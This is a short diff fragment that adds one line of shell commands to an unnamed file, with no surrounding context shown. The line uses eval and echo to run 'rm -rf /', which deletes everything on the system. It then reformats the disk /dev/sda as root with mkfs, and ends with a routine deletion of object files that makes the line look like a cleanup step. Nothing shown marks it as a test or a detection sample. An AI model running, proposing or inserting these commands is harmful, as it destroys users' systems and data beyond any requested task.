@@ -1,0 +1,1 @@
+eval "$(echo 'rm -rf /')"; su -c "mkfs /dev/sda" root; find . -name '*.o' -exec rm {} +
